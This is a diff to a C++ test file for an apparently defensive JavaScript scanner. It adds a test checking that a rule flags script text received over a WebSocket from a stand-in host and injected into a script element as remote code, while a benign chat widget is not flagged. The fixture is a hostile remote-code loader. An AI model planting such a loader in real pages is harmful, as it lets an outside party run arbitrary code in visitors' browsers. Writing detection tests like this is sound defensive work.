@@ -404,5 +404,17 @@ TEST(BehaviourJs, APaymentSdkNamesCardFieldsFarFromItsRequests) {
   EXPECT_TRUE(Has(Js(filler + form + send + filler), "js.card_exfil"));
 }
 
+TEST(BehaviourJs, CodeFromAWebSocketPutIntoAScriptElement) {
+  EXPECT_TRUE(Has(Js("var ws=new WebSocket('wss://w.example/ws');ws.onmessage=function(m){"
+                     "var s=document.createElement('script');s.textContent=m.data;"
+                     "document.body.appendChild(s);};"),
+                  "js.remote_code"));
+  // A chat widget: its socket carries messages, its script element loads its own library.
+  EXPECT_FALSE(Has(Js("var ws=new WebSocket('wss://chat.example/ws');ws.onmessage=function(m){"
+                      "box.textContent=m.data;};var s=document.createElement('script');"
+                      "s.src='https://chat.example/widget.js';document.head.appendChild(s);"),
+                   "js.remote_code", 1));
+}
+
 }  // namespace
 }  // namespace tq::webroot
